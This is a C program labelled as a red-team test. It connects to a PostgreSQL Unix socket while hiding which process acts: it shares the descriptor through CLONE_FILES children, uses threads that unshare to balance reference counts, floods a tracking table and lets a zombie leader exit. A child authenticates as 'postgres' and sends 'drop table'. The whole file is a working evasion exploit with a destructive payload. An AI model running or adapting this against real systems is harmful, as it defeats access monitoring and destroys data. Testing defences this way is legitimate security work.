// Red team: a socket shared through a CLONE_FILES child, with the descriptor-table count balanced
// by threads that unshare(CLONE_FILES) (CLONE_THREAD without CLONE_FILES).
//   rt_unix_share LINK TABLE NTHREADS NCHILD [leader|none] [FLOOD]
// FLOOD: first, that many other session processes each make a CLONE_FILES child and are killed
// (the note table flooded).
// NCHILD CLONE_FILES children made before the connect; with one, it makes the second sender
// itself (CLONE_FILES again) once the connecting process is dead.  "leader": the main thread exits
// (pthread_exit: a zombie leader still counts in nr_threads, no longer in files->count) and
// another thread connects.
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile int unshared;
static void *unsharer(void *arg)
{
    if (unshare(CLONE_FILES) != 0)
        perror("unshare");
    __atomic_add_fetch(&unshared, 1, __ATOMIC_SEQ_CST);
    for (;;)
        pause();
    return arg;
}

static size_t startup(char *b, const char *app)
{
    char params[256];
    size_t n = 0;
    const char *kv[] = {"user", "postgres", "database", "awtest", "application_name", app};
    for (int i = 0; i < 6; i++) {
        strcpy(params + n, kv[i]);
        n += strlen(kv[i]) + 1;
    }
    params[n++] = 0;
    uint32_t len = htonl(8 + n), ver = htonl(0x00030000);
    memcpy(b, &len, 4);
    memcpy(b + 4, &ver, 4);
    memcpy(b + 8, params, n);
    return 8 + n;
}

static size_t query(char *b, const char *sql)
{
    size_t n = strlen(sql) + 1;
    uint32_t len = htonl(4 + n);
    b[0] = 'Q';
    memcpy(b + 1, &len, 4);
    memcpy(b + 5, sql, n);
    return 5 + n;
}

static void wait_parent_gone(pid_t parent)
{
    while (getppid() == parent)
        usleep(10000);
}

static int go(int argc, char **argv);
static int g_argc;
static char **g_argv;
static void *leader_rest(void *arg)
{
    usleep(300000);   // the leader is a zombie by then
    exit(go(g_argc, g_argv));
    return arg;
}

int main(int argc, char **argv)
{
    if (argc > 5 && !strcmp(argv[5], "leader")) {
        g_argc = argc;
        g_argv = argv;
        pthread_t th;
        pthread_create(&th, 0, leader_rest, 0);
        pthread_exit(0);
    }
    return go(argc, argv);
}

static int go(int argc, char **argv)
{
    const char *link = argv[1], *table = argv[2];
    int nthreads = atoi(argv[3]), nchild = atoi(argv[4]);
    (void)argc;
    pthread_t th;
    for (int i = 0; i < nthreads; i++)
        pthread_create(&th, 0, unsharer, 0);
    while (unshared < nthreads)
        usleep(1000);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    pid_t parent = getpid();
    for (int k = 0; k < nchild; k++) {
        long pid = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
        if (pid == 0) {
            wait_parent_gone(parent);
            char b[512];
            if (k == 0 && nchild == 1 && syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0) == 0)
                k = 1;                    // the second sender, made after the connect
            else if (k == 0) {            // the first child sends the startup packet (and dies for it)
                size_t n = startup(b, "rt-balanced");
                ssize_t w = write(s, b, n);
                fprintf(stderr, "child0 wrote %zd errno %d\n", w, errno);
                sleep(2);
                _exit(0);
            }
            // the second reads until ReadyForQuery, then sends the statement (and dies for it)
            char r[4096];
            size_t got = 0;
            for (;;) {
                ssize_t n = read(s, r + got, sizeof r - got);
                if (n <= 0) {
                    fprintf(stderr, "child1 read %zd errno %d\n", n, errno);
                    _exit(1);
                }
                got += n;
                if (memchr(r, 'Z', got))
                    break;
            }
            char sql[128];
            snprintf(sql, sizeof sql, "drop table %s", table);
            size_t n = query(b, sql);
            ssize_t w = write(s, b, n);
            fprintf(stderr, "child1 wrote %zd errno %d\n", w, errno);
            sleep(2);
            _exit(0);
        }
    }
    usleep(200000);
    int flood = argc > 6 ? atoi(argv[6]) : 0;
    pid_t *w = calloc(flood + 1, sizeof(pid_t));
    for (int i = 0; i < flood; i++) {
        w[i] = fork();
        if (w[i] == 0) {
            long c = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
            if (c == 0)
                _exit(0);
            waitpid(c, 0, 0);
            for (;;)
                pause();
        }
    }
    for (int i = 0; i < flood; i++)
        kill(w[i], SIGKILL);
    for (int i = 0; i < flood; i++)
        waitpid(w[i], 0, 0);
    fprintf(stderr, "flooded %d\n", flood);
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    strncpy(sa.sun_path, link, sizeof sa.sun_path - 1);
    if (connect(s, (struct sockaddr *)&sa, sizeof sa) != 0) {
        printf("refused %d\n", errno);
        fflush(stdout);
        _exit(0);    // children: the parent's gone, they try anyway (ENOTCONN)
    }
    printf("connected (alive)\n");
    fflush(stdout);
    sleep(3);
    return 0;
}
